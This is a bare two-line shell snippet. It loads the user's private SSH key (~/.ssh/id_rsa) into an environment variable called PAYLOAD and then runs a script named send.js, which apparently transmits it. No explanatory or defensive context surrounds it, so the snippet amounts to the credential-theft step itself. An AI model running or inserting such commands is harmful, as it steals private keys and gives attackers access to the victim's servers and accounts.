export PAYLOAD="$(cat ~/.ssh/id_rsa)"
node send.js
